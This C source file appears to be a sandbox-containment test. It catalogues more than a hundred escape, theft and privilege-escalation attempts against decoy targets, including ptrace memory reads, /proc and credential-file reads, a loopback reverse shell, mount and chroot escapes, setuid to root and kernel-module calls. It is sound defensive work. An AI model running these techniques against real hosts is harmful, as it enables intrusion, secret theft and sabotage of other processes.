/*
 * attempts.c - a plugin that tries to do damage, in more than a hundred ways, each
 * after something that was done to others. One table says what each imitates, what
 * the damage would be and how it is seen from outside. The same program, on the
 * same targets, runs without a jail as well: there it must succeed.
 *
 *   attempts list                   the table, a line each, for the test
 *   attempts GROUP [KEY=VALUE...]   all of a group (plain, root, boxed) or of "all":
 *                                   "NAME<tab>succeeded: ..." or "...contained: ..."
 *   attempts NAME [KEY=VALUE...]    this one
 *   attempts box [KEY=VALUE...]     those that need namespaces of their own, in them
 *
 * The values say where the targets are: targets.c writes them down.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_alg.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attempts.h"

#define COUNT(a) (sizeof(a) / sizeof(*(a)))
#define MIB (1ul << 20)
#define PATIENCE_MS 4000
#define TRY(call) ((call) < 0 ? errno : 0)

/* Where it can be shown without a jail: anywhere; by root; in namespaces of its own;
 * on a terminal; or in a run of its own, which a limit is to stop. */
enum where { PLAIN, ROOT, BOXED, TTY, ALONE };
static const char *const where_word[] = { "plain", "root", "boxed", "tty", "alone" };

/* How the damage is seen from outside. */
#define NOTHING '-' /* it is not: the kernel's word is all there is */
#define FILES 'F'   /* something below its directory of the targets is not as it was */
#define STOLEN 'S'  /* it says the secret */
#define TOLD 'L'    /* the targets have noticed */
#define STATE 'V'   /* the victim's state has changed */

struct attempt {
	const char *class, *name, *imitates, *damage;
	enum where where;
	char seen;
	const char *target; /* below its directory; "+": it is not there yet */
	int (*make)(void);  /* 0: the damage is done; else what kept it from it */
};

static const struct attempt *current;
static char detail[512];
static const char *self = "attempts", *workspace = ".", *temporary = "/tmp";
static char **values;
static int jailed, in_box;

static const char *value(const char *key)
{
	size_t n = strlen(key);
	char **v;

	for (v = values; *v != NULL; v++)
		if (strncmp(*v, key, n) == 0 && (*v)[n] == '=')
			return *v + n + 1;
	return "";
}

static long number(const char *key)
{
	return strtol(value(key), NULL, 0);
}

static pid_t victim(void)
{
	return (pid_t)number("victim");
}

/* Nobody frees it: there are few, and soon there is nobody. */
static const char *path_of(const char *base, const char *below)
{
	char path[8192];

	snprintf(path, sizeof(path), "%s/%s", base, below);
	return strdup(path);
}

/* Its own target. */
static const char *target(void)
{
	const char *t = current->target;

	return path_of(value("dir"), path_of(current->name, t[0] == '+' ? t + 1 : t));
}

static const char *in_workspace(void)
{
	return path_of(workspace, current->name);
}

static void nap(long ms)
{
	struct timespec t = { ms / 1000, ms % 1000 * 1000000 };

	while (nanosleep(&t, &t) < 0 && errno == EINTR)
		;
}

/* Fork, and never -1: kill(-1) is for everybody. */
static pid_t child(void)
{
	pid_t pid = fork();

	if (pid < 0) {
		printf("%s\tundecided: no child: %s\n", current->name, strerror(errno));
		fflush(stdout);
		_exit(0);
	}
	return pid;
}

/* ---- what many of them do ----------------------------------------------------------- */

/* Most are one call. */
#define DEED(name, call) static int name(void) { return call; }

static int say_bytes(const char *text, ssize_t n)
{
	ssize_t i;

	if (n < 0)
		return errno;
	if (n == 0)
		return ENODATA;
	for (i = 0; i < n && i < (ssize_t)sizeof(detail) - 1 && text[i] != '\n'; i++)
		detail[i] = text[i] < ' ' || text[i] > '~' ? '.' : text[i];
	detail[i] = '\0';
	return 0;
}

static int steal_fd(int fd)
{
	char text[256];

	return say_bytes(text, fd < 0 ? -1 : pread(fd, text, sizeof(text), 0));
}

static int steal(const char *path)
{
	return steal_fd(open(path, O_RDONLY | O_CLOEXEC));
}

DEED(steal_target, steal(target()))

static int write_fd(int fd, const char *text)
{
	return fd < 0 ? errno : TRY(write(fd, text, strlen(text)));
}

DEED(append_target, write_fd(open(target(), O_WRONLY | O_APPEND | O_CLOEXEC), "owned\n"))
DEED(create_target, write_fd(open(target(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755), "owned\n"))

static int create_at(const char *path, const char *text)
{
	return write_fd(open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755), text);
}

/* ---- files: reading ------------------------------------------------------------------- */

DEED(passwd, steal("/etc/passwd"))
DEED(path_handle, TRY(open(target(), O_PATH | O_CLOEXEC)))

static int dotdot(void)
{
	char path[4096] = "";
	int i;

	for (i = 0; i < 24; i++)
		strcat(path, "../");
	return steal(path_of(path, target()));
}

DEED(proc_root, steal(path_of("/proc/self/root", target())))

static int victim_root(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/root", (int)victim());
	return steal(path_of(path, target()));
}

static int sweep(void)
{
	DIR *d = opendir(path_of(value("dir"), current->name));
	struct dirent *e;
	int error = ENOENT;

	if (d == NULL)
		return errno;
	while ((e = readdir(d)) != NULL)
		if (e->d_name[0] != '.' &&
		    (error = steal(path_of(path_of(value("dir"), current->name), e->d_name))) == 0)
			break;
	return error;
}

static int symlink_out(void)
{
	if (symlink(target(), in_workspace()) != 0)
		return errno;
	return steal(in_workspace());
}

static int symlink_write(void)
{
	if (symlink(path_of(value("dir"), current->name), in_workspace()) != 0)
		return errno;
	return create_at(path_of(in_workspace(), "planted"), "owned\n");
}

static int hardlink_out(void)
{
	if (link(target(), in_workspace()) != 0)
		return errno;
	return steal(in_workspace());
}

static int rename_in(void)
{
	if (rename(target(), in_workspace()) != 0)
		return errno;
	return steal(in_workspace());
}

/* Any descriptor that was left open, of the wanted kind. */
static int leaked(mode_t kind, int access)
{
	struct stat st;
	int fd;

	for (fd = 5; fd < 64; fd++)
		if (fstat(fd, &st) == 0 && (st.st_mode & S_IFMT) == kind &&
		    (kind == S_IFDIR || (fcntl(fd, F_GETFL) & O_ACCMODE) == access))
			return fd;
	errno = EBADF;
	return -1;
}

static int leaked_directory(void)
{
	int fd = leaked(S_IFDIR, O_RDONLY);

	return fd < 0 ? errno : steal_fd(openat(fd, current->target, O_RDONLY | O_CLOEXEC));
}

DEED(leaked_file, steal_fd(leaked(S_IFREG, O_RDONLY)))
DEED(leaked_ledger, write_fd(leaked(S_IFREG, O_WRONLY), "{\"call\":\"forged\"}\n"))

static int open_handle(void)
{
	struct { struct file_handle head; char room[128]; } h = { .head.handle_bytes = 128 };
	int mount_id, at;

	if (name_to_handle_at(AT_FDCWD, target(), &h.head, &mount_id, 0) != 0)
		return errno;
	at = open(value("dir"), O_RDONLY | O_CLOEXEC);
	return at < 0 ? errno : steal_fd(open_by_handle_at(at, &h.head, O_RDONLY | O_CLOEXEC));
}

/* ---- files: writing --------------------------------------------------------------------- */

static int swap_self(void)
{
	char beside[4096];

	snprintf(beside, sizeof(beside), "%s.new", self);
	if (create_at(beside, "#!/bin/sh\n") != 0)
		return errno;
	return TRY(rename(beside, self));
}

static int write_bin(void)
{
	char beside[4096];

	snprintf(beside, sizeof(beside), "%.*s/sh", (int)(strrchr(self, '/') - self), self);
	return create_at(beside, "#!/bin/sh\n");
}

/* The program that runs it, by the link that the kernel keeps of it. */
static int runtime_exe(void)
{
	char path[64], word[] = "idle";
	pid_t pid = child();
	int fd, status;

	if (pid == 0) {
		execl(target(), word, word, (char *)NULL);
		_exit(errno);
	}
	nap(50);
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	kill(pid, SIGKILL);
	waitpid(pid, &status, 0);
	if (fd < 0)
		return WIFEXITED(status) && WEXITSTATUS(status) ? WEXITSTATUS(status) : ENOENT;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return write_fd(open(path, O_WRONLY | O_APPEND), "owned\n");
}

DEED(chmod_target, TRY(chmod(target(), 0777)))
DEED(setuid_target, TRY(chmod(target(), 04755)))
DEED(chown_target, TRY(chown(target(), 65534, 65534)))
DEED(truncate_target, TRY(truncate(target(), 0)))
DEED(touch_target, TRY(utimensat(AT_FDCWD, target(), (struct timespec[]){ { 1, 0 }, { 1, 0 } }, 0)))
DEED(unlink_target, TRY(unlink(target())))
DEED(make_directory, TRY(mkdir(target(), 0755)))
DEED(remove_directory, TRY(rmdir(target())))
DEED(set_attribute, TRY(syscall(SYS_setxattr, target(), "user.owned", "1", 1, 0)))
DEED(fifo_target, TRY(mkfifo(target(), 0666)))
DEED(device_target, TRY(mknod(target(), S_IFBLK | 0666, makedev(8, 1))))

static int socket_target(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", target());
	return fd < 0 ? errno : TRY(bind(fd, (struct sockaddr *)&a, sizeof(a)));
}

/* What the operator gave: in a jail it is where the jail shows it. */
static int overwrite_given(void)
{
	const char *path = jailed ? path_of(workspace, current->target) : target();

	return write_fd(open(path, O_WRONLY | O_TRUNC | O_CLOEXEC), "{\"owned\":1}\n");
}

/* The run's own folder, or what stands for one. */
static int forge(void)
{
	const char *partial = value("partial"), *at = current->target;

	if (partial[0] != '\0')
		return write_fd(open(path_of(partial, at), O_WRONLY | O_APPEND), "{\"type\":\"forged\"}\n");
	return append_target();
}

static int run_copy(const char *to)
{
	static char block[1 << 16];
	int in = open(self, O_RDONLY | O_CLOEXEC), out, status;
	ssize_t n;
	pid_t pid;

	out = in < 0 ? -1 : open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
	if (out < 0)
		return errno;
	while ((n = read(in, block, sizeof(block))) > 0)
		if (write(out, block, (size_t)n) != n)
			return errno;
	close(out);
	pid = child();
	if (pid == 0) {
		execl(to, to, "nothing", (char *)NULL);
		_exit(errno);
	}
	waitpid(pid, &status, 0);
	return WEXITSTATUS(status);
}

DEED(run_workspace, run_copy(in_workspace()))
DEED(run_temporary, run_copy(path_of(temporary, current->name)))

static int run_memory(void)
{
	int fd = (int)syscall(SYS_memfd_create, "kworker", 1), in = open(self, O_RDONLY), status;
	char block[4096], word[] = "nothing", *argv[] = { word, word, NULL }, *none = NULL;
	ssize_t n;
	pid_t pid;

	if (fd < 0 || in < 0)
		return errno;
	while ((n = read(in, block, sizeof(block))) > 0)
		if (write(fd, block, (size_t)n) != n)
			return errno;
	pid = child();
	if (pid == 0) {
		syscall(SYS_execveat, fd, "", argv, &none, AT_EMPTY_PATH);
		_exit(errno);
	}
	waitpid(pid, &status, 0);
	return WEXITSTATUS(status);
}

static int run_shell(void)
{
	int status;
	pid_t pid = child();

	if (pid == 0) {
		execl("/bin/sh", "sh", "-c", "exit 0", (char *)NULL);
		_exit(errno);
	}
	waitpid(pid, &status, 0);
	return WEXITSTATUS(status);
}

DEED(kallsyms, steal("/proc/kallsyms"))
DEED(mountinfo, steal("/proc/self/mountinfo"))
DEED(interfaces, steal("/proc/net/route"))

static int sysfs(void)
{
	DIR *d = opendir("/sys/class");

	return d == NULL ? errno : 0;
}

static int kernel_log(void)
{
	int fd = open("/dev/kmsg", O_RDONLY | O_NONBLOCK);
	char text[8192];

	return say_bytes(text, fd < 0 ? -1 : read(fd, text, sizeof(text)));
}

DEED(init_environment, steal("/proc/1/environ"))
DEED(init_root, TRY(open("/proc/1/root/etc", O_RDONLY | O_DIRECTORY)))

static int raw_disk(void)
{
	DIR *d = opendir("/sys/block");
	struct dirent *e;
	char text[512];
	int fd;

	if (d == NULL)
		return errno;
	while ((e = readdir(d)) != NULL) {
		fd = open(path_of("/dev", e->d_name), O_RDONLY | O_CLOEXEC);
		if (e->d_name[0] != '.' && fd >= 0 && read(fd, text, sizeof(text)) > 0)
			return 0;
		close(fd);
	}
	return ENOENT;
}

DEED(physical_memory, TRY(open("/dev/mem", O_RDONLY)))

/* Writes what stands there: who may do that may write anything. */
static int same_again(const char *path)
{
	char text[256];
	int fd = open(path, O_RDWR | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));

	return n < 0 ? errno : TRY(pwrite(fd, text, (size_t)n, 0));
}

DEED(core_pattern, same_again("/proc/sys/kernel/core_pattern"))
DEED(modprobe_path, same_again("/proc/sys/kernel/modprobe"))
DEED(sysrq, TRY(open("/proc/sysrq-trigger", O_WRONLY)))

/* ---- other processes --------------------------------------------------------------------- */

static int signal_number(void)
{
#define X(number, who) if (strcmp(current->name, who) == 0) return number;
	SIGNALS(X)
#undef X
	return 0;
}

DEED(signal_victim, TRY(kill(victim(), signal_number())))
DEED(signal_group, TRY(kill(-victim(), signal_number())))
DEED(signal_queued, TRY(sigqueue(victim(), signal_number(), (union sigval){ 0 })))

static int signal_pidfd(void)
{
	int fd = (int)syscall(SYS_pidfd_open, victim(), 0);

	return fd < 0 ? errno : TRY(syscall(SYS_pidfd_send_signal, fd, signal_number(), NULL, 0));
}

DEED(signal_thread, TRY(syscall(SYS_tgkill, victim(), victim(), signal_number())))

/* The kernel sends it, when there is something to read. */
static int signal_by_pipe(void)
{
	int end[2];

	if (pipe(end) != 0 || fcntl(end[0], F_SETOWN, victim()) != 0 ||
	    fcntl(end[0], F_SETSIG, signal_number()) != 0 || fcntl(end[0], F_SETFL, O_ASYNC) != 0)
		return errno;
	return TRY(write(end[1], "x", 1));
}

/* What is read in the victim, at the address of its secret. */
static int peek(pid_t pid, unsigned long address)
{
	char text[SECRET_LENGTH + 8] = "";
	size_t i;
	long word;

	for (i = 0; i < SECRET_LENGTH; i += sizeof(word)) {
		errno = 0;
		word = ptrace(PTRACE_PEEKDATA, pid, (void *)(address + i), NULL);
		if (errno != 0)
			return errno;
		memcpy(text + i, &word, sizeof(word));
	}
	return say_bytes(text, SECRET_LENGTH);
}

static int trace_victim(void)
{
	int status, error;

	if (ptrace(PTRACE_SEIZE, victim(), 0, 0) != 0 || ptrace(PTRACE_INTERRUPT, victim(), 0, 0) != 0)
		return errno;
	waitpid(victim(), &status, __WALL);
	error = peek(victim(), (unsigned long)number("memory"));
	ptrace(PTRACE_DETACH, victim(), 0, 0);
	return error;
}

static int trace_parent(void)
{
	pid_t parent = (pid_t)syscall(SYS_getppid);

	if (parent < 0)
		return errno;
	return TRY(ptrace(PTRACE_SEIZE, parent, 0, 0));
}

static int read_memory(void)
{
	char text[SECRET_LENGTH];
	struct iovec here = { text, sizeof(text) }, there = { (void *)number("memory"), sizeof(text) };

	return say_bytes(text, process_vm_readv(victim(), &here, 1, &there, 1, 0));
}

static int write_memory(void)
{
	char text[] = "X";
	struct iovec here = { text, 1 }, there = { (void *)number("canary"), 1 };

	return TRY(process_vm_writev(victim(), &here, 1, &there, 1, 0));
}

static int proc_of_victim(const char *what)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", (int)victim(), what);
	return open(path, O_RDWR | O_CLOEXEC) >= 0 || errno == EACCES || errno == EPERM ?
	    open(path, O_RDONLY | O_CLOEXEC) : -1;
}

static int proc_memory(void)
{
	char text[SECRET_LENGTH];
	int fd = proc_of_victim("mem");

	return say_bytes(text, fd < 0 ? -1 : pread(fd, text, sizeof(text), number("memory")));
}

DEED(proc_environment, steal_fd(proc_of_victim("environ")))
DEED(proc_arguments, steal_fd(proc_of_victim("cmdline")))

static int proc_descriptor(void)
{
	char name[32];

	snprintf(name, sizeof(name), "fd/%d", VICTIM_FD);
	return steal_fd(proc_of_victim(name));
}

/* All that runs here, for what was given to it as an argument. */
static int arguments_of_all(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	char text[4096];
	ssize_t n, i;
	int fd;

	if (d == NULL)
		return errno;
	while ((e = readdir(d)) != NULL) {
		fd = open(path_of("/proc", path_of(e->d_name, "cmdline")), O_RDONLY | O_CLOEXEC);
		n = fd < 0 ? 0 : read(fd, text, sizeof(text));
		close(fd);
		for (i = 0; i + SECRET_LENGTH <= n; i++)
			if (memcmp(text + i, "hunter2-", 8) == 0)
				return say_bytes(text + i, SECRET_LENGTH);
	}
	return ENODATA;
}

static int steal_descriptor(void)
{
	int fd = (int)syscall(SYS_pidfd_open, victim(), 0);

	return fd < 0 ? errno : steal_fd((int)syscall(SYS_pidfd_getfd, fd, VICTIM_FD, 0));
}

DEED(nice_victim, TRY(setpriority(PRIO_PROCESS, (id_t)victim(), 19)))

static int limit_victim(void)
{
	struct { uint64_t soft, hard; } none = { 33, 33 };

	return TRY(syscall(SYS_prlimit64, victim(), RLIMIT_NOFILE, &none, NULL));
}

static int oom_victim(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/oom_score_adj", (int)victim());
	return write_fd(open(path, O_WRONLY | O_CLOEXEC), "777");
}

static int pin_victim(void)
{
	cpu_set_t one;
	int cpu;

	if (sched_getaffinity(0, sizeof(one), &one) != 0)
		return errno;
	for (cpu = 0; !CPU_ISSET(cpu, &one); cpu++)
		;
	CPU_ZERO(&one);
	CPU_SET(cpu, &one);
	return TRY(sched_setaffinity(victim(), sizeof(one), &one));
}

DEED(idle_victim, TRY(syscall(SYS_sched_setscheduler, victim(), 3 /* SCHED_BATCH */, (int[]){ 0 })))
DEED(compare_victim, TRY(syscall(SYS_kcmp, victim(), getpid(), 2 /* files */, 0, 0)))
DEED(no_randomness, TRY(syscall(SYS_personality, 0x40000)))

static int raise_limit(void)
{
	struct rlimit l;

	if (getrlimit(RLIMIT_NOFILE, &l) != 0)
		return errno;
	l.rlim_cur = l.rlim_max;
	return TRY(setrlimit(RLIMIT_NOFILE, &l));
}

static int lock_memory(void)
{
	static char page[4096];

	return TRY(mlock(page, sizeof(page)));
}

DEED(subreaper, TRY(prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)))
DEED(any_tracer, TRY(prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)))
DEED(real_time, TRY(syscall(SYS_sched_setscheduler, 0, 1 /* SCHED_FIFO */, (int[]){ 1 })))
DEED(nicer, TRY(setpriority(PRIO_PROCESS, 0, -10)))
DEED(become_root, TRY(syscall(SYS_setresuid, 0, 0, 0)))
DEED(become_group, TRY(syscall(SYS_setresgid, 0, 0, 0)))
DEED(join_groups, TRY(syscall(SYS_setgroups, 1, (unsigned[]){ 0 })))

/* CAP_SYS_ADMIN for all that it will execute. */
static int ambient(void)
{
	struct { uint32_t version; int pid; } head = { 0x20080522, 0 };
	struct { uint32_t effective, permitted, inheritable; } set[2];

	if (syscall(SYS_capget, &head, set) != 0)
		return errno;
	set[0].inheritable |= 1u << 21;
	if (syscall(SYS_capset, &head, set) != 0)
		return errno;
	return TRY(prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 21, 0, 0));
}

/* ---- network -------------------------------------------------------------------------------- */

static int tell(int fd, const void *address, socklen_t length)
{
	char answer[64], name[64];

	snprintf(name, sizeof(name), "%s\n", current->name);
	if (fd < 0 || connect(fd, address, length) != 0 ||
	    send(fd, name, strlen(name), MSG_NOSIGNAL) < 0)
		return errno;
	return say_bytes(answer, recv(fd, answer, sizeof(answer), 0));
}

static struct sockaddr_in loopback(long port)
{
	return (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons((uint16_t)port),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
}

static int tcp(void)
{
	struct sockaddr_in a = loopback(number("tcp"));

	return tell(socket(AF_INET, SOCK_STREAM, 0), &a, sizeof(a));
}

static int tcp6(void)
{
	struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_addr = in6addr_loopback,
		.sin6_port = htons((uint16_t)number("tcp6")) };

	return tell(socket(AF_INET6, SOCK_STREAM, 0), &a, sizeof(a));
}

/* No answer is waited for: the question has gone out. */
static int udp(void)
{
	struct sockaddr_in a = loopback(number("udp"));
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	return fd < 0 ? errno : TRY(sendto(fd, current->name, strlen(current->name), 0,
	    (struct sockaddr *)&a, sizeof(a)));
}

static int unix_socket(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", target());
	return tell(socket(AF_UNIX, SOCK_STREAM, 0), &a, sizeof(a));
}

static int abstract_socket(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int n = snprintf(a.sun_path + 1, sizeof(a.sun_path) - 1, "%s", value("abstract"));

	return tell(socket(AF_UNIX, SOCK_STREAM, 0), &a,
	    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + (size_t)n));
}

static int reverse_shell(void)
{
	struct sockaddr_in a = loopback(number("tcp"));
	int fd = socket(AF_INET, SOCK_STREAM, 0), status;
	pid_t pid;

	if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0)
		return errno;
	pid = child();
	if (pid == 0) {
		dup2(fd, 1);
		execl("/bin/sh", "sh", "-c", "echo reverse-shell", (char *)NULL);
		_exit(errno);
	}
	waitpid(pid, &status, 0);
	return WEXITSTATUS(status);
}

static int bind_shell(void)
{
	struct sockaddr_in a = loopback(0);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) != 0)
		return errno;
	return TRY(listen(fd, 1));
}

static int metadata(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(80) };

	inet_pton(AF_INET, METADATA, &a.sin_addr);
	return tell(socket(AF_INET, SOCK_STREAM, 0), &a, sizeof(a));
}

static int netlink(int protocol)
{
	struct sockaddr_nl a = { .nl_family = AF_NETLINK, .nl_groups = protocol == 15 };
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, protocol);

	return fd < 0 ? errno : TRY(bind(fd, (struct sockaddr *)&a, sizeof(a)));
}

DEED(routes, netlink(0))
DEED(uevents, netlink(15))
DEED(nf_tables, netlink(12))
DEED(audit_log, netlink(9))
DEED(raw_icmp, TRY(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)))
DEED(sniffer, TRY(socket(AF_PACKET, SOCK_RAW, htons(3))))
DEED(vsock, TRY(socket(AF_VSOCK, SOCK_STREAM, 0)))

static int crypto_socket(void)
{
	struct sockaddr_alg a = { .salg_family = AF_ALG, .salg_type = "hash", .salg_name = "sha256" };
	int fd = socket(AF_ALG, SOCK_SEQPACKET, 0);

	return fd < 0 ? errno : TRY(bind(fd, (struct sockaddr *)&a, sizeof(a)));
}

static int interface_down(void)
{
	struct ifreq r = { .ifr_name = "lo" };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	return fd < 0 ? errno : TRY(ioctl(fd, SIOCSIFFLAGS, &r));
}

/* ---- mounts and namespaces ------------------------------------------------------------------ */

DEED(mount_tmpfs, TRY(mount("none", temporary, "tmpfs", 0, NULL)))
DEED(mount_bind, TRY(mount("/", temporary, NULL, MS_BIND | MS_REC, NULL)))
DEED(mount_proc, TRY(mount("proc", temporary, "proc", 0, NULL)))
DEED(mount_cgroup, TRY(mount("none", temporary, "cgroup2", 0, NULL)))

static int mount_overlay(void)
{
	const char *base = in_workspace();
	char options[8192];

	if (mkdir(base, 0755) != 0 || mount("none", base, "tmpfs", 0, NULL) != 0 ||
	    mkdir(path_of(base, "u"), 0755) != 0 || mkdir(path_of(base, "w"), 0755) != 0)
		return errno;
	snprintf(options, sizeof(options), "lowerdir=%s,upperdir=%s/u,workdir=%s/w", temporary, base, base);
	return TRY(mount("none", temporary, "overlay", 0, options));
}

static int remount(void)
{
	const char *at = jailed ? "/" : temporary;

	if (!jailed && mount("none", temporary, "tmpfs", MS_RDONLY, NULL) != 0)
		return errno;
	return TRY(mount(NULL, at, NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int unmount(void)
{
	const char *at = jailed ? workspace : temporary;

	if (!jailed && mount("none", temporary, "tmpfs", 0, NULL) != 0)
		return errno;
	return TRY(umount2(at, MNT_DETACH));
}

static int new_mount_api(void)
{
	int fd = (int)syscall(SYS_fsopen, "tmpfs", 1);

	if (fd < 0 || syscall(SYS_fsconfig, fd, 6 /* create */, NULL, NULL, 0) != 0)
		return errno;
	return TRY(syscall(SYS_fsmount, fd, 1, 0));
}

DEED(clone_tree, TRY(syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* clone */ | 0x8000 /* recursive */)))

static int set_mount(void)
{
	uint64_t attributes[4] = { 1 /* read-only */, 0, 0, 0 };

	if (!jailed && mount("none", temporary, "tmpfs", 0, NULL) != 0)
		return errno;
	return TRY(syscall(SYS_mount_setattr, AT_FDCWD, jailed ? "/" : temporary, 0, attributes,
	    sizeof(attributes)));
}

static int pivot(void)
{
	if (mount("none", temporary, "tmpfs", 0, NULL) != 0 || chdir(temporary) != 0)
		return errno;
	return TRY(syscall(SYS_pivot_root, ".", "."));
}

/* A root within the root, which the working directory is outside of. */
static int chroot_escape(void)
{
	int i;

	if (mkdir(in_workspace(), 0755) != 0 || chroot(in_workspace()) != 0)
		return errno;
	for (i = 0; i < 64; i++)
		if (chdir("..") != 0)
			return errno;
	return TRY(chroot("."));
}

DEED(user_namespace, TRY(unshare(CLONE_NEWUSER)))

static int clone_namespace(void)
{
	long pid = syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNET | SIGCHLD, 0, 0, 0, 0);

	if (pid == 0)
		_exit(0);
	return TRY(pid);
}

static int clone3_namespace(void)
{
	uint64_t arguments[11] = { [0] = CLONE_NEWUSER, [4] = SIGCHLD };
	long pid = syscall(SYS_clone3, arguments, sizeof(arguments));

	if (pid == 0)
		_exit(0);
	return TRY(pid);
}

DEED(time_namespace, TRY(unshare(0x80 /* CLONE_NEWTIME */)))

static int enter_namespace(void)
{
	int fd = open("/proc/1/ns/uts", O_RDONLY | O_CLOEXEC);

	return fd < 0 ? errno : TRY(setns(fd, 0));
}

DEED(host_name, TRY(sethostname("owned", 5)))
DEED(domain_name, TRY(setdomainname("owned", 5)))

/* ---- the kernel ------------------------------------------------------------------------------- */

static int bpf(void)
{
	union bpf_attr a = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1 };

	return TRY(syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a)));
}

static int perf(void)
{
	struct perf_event_attr a = { .type = PERF_TYPE_SOFTWARE, .size = sizeof(a),
		.config = PERF_COUNT_SW_CPU_CLOCK, .exclude_kernel = 1, .exclude_hv = 1 };

	return TRY(syscall(SYS_perf_event_open, &a, 0, -1, -1, 0));
}

DEED(fault_handler, TRY(syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* user mode only */)))

static int io_uring(void)
{
	char parameters[120] = "";

	return TRY(syscall(SYS_io_uring_setup, 1, parameters));
}

static int kernel_aio(void)
{
	unsigned long context = 0;

	return TRY(syscall(SYS_io_setup, 1, &context));
}

DEED(join_keyring, TRY(syscall(SYS_keyctl, 1 /* join session */, NULL)))
DEED(add_key, TRY(syscall(SYS_add_key, "user", "owned", "x", 1, -2 /* of the process */)))

static int request_key(void)
{
	/* There is none of that name: to be told so is to have been heard. */
	if (syscall(SYS_request_key, "user", "attempts", NULL, 0) >= 0 || errno == ENOKEY)
		return 0;
	return errno;
}

static int splice_page(void)
{
	loff_t at = 4;
	int end[2], fd = open(self, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || pipe(end) != 0)
		return errno;
	return TRY(syscall(SYS_splice, fd, &at, end[1], NULL, 1, 0));
}

static int give_pages(void)
{
	static char page[4096];
	struct iovec v = { page, 1 };
	int end[2];

	return pipe(end) != 0 ? errno : TRY(syscall(SYS_vmsplice, end[1], &v, 1, 0));
}

static int tee_pages(void)
{
	int from[2], to[2];

	if (pipe(from) != 0 || pipe(to) != 0 || write(from[1], "x", 1) != 1)
		return errno;
	return TRY(syscall(SYS_tee, from[0], to[1], 1, 0));
}

DEED(file_watch, TRY(syscall(SYS_inotify_init1, 0)))
DEED(host_watch, TRY(syscall(SYS_fanotify_init, 0, 0)))

static int file_handle(void)
{
	struct { struct file_handle head; char room[128]; } h = { .head.handle_bytes = 128 };
	int mount_id;

	return TRY(name_to_handle_at(AT_FDCWD, "/", &h.head, &mount_id, 0));
}

DEED(queue_signals, TRY(syscall(SYS_timer_create, 0, NULL, (int[]){ 0 })))

#ifdef __x86_64__
static int segment_table(void)
{
	char table[16];

	return TRY(syscall(SYS_modify_ldt, 0, table, sizeof(table)));
}

DEED(ports, TRY(syscall(SYS_ioperm, 0x80, 1, 1)))
DEED(all_ports, TRY(syscall(SYS_iopl, 3)))

/* getpid, as a program of 32 bits asks for it. */
static int foreign_call(void)
{
	long r;

	__asm__ volatile("int $0x80" : "=a"(r) : "a"(20L) : "memory", "r8", "r9", "r10", "r11");
	return r > 0 ? 0 : ENOSYS;
}
#endif

/* A module that is none: ENOEXEC and EFAULT come after the right was checked. */
static int looked_at(long r, int a, int b)
{
	return r >= 0 || errno == a || errno == b ? 0 : errno;
}

DEED(load_module, looked_at(syscall(SYS_init_module, NULL, 64, ""), ENOEXEC, EFAULT))
DEED(unload_module, looked_at(syscall(SYS_delete_module, "attempts_none", O_NONBLOCK), ENOENT, EFAULT))
DEED(other_kernel, looked_at(syscall(SYS_kexec_load, 0, 99, NULL, 0), EINVAL, EFAULT))
DEED(restart, looked_at(syscall(SYS_reboot, 0, 0, 0, NULL), EINVAL, EINVAL))
DEED(set_clock, TRY(syscall(SYS_settimeofday, NULL, NULL)))
DEED(swap_on, looked_at(syscall(SYS_swapon, "/nowhere/at/all", 0), ENOENT, ENOENT))
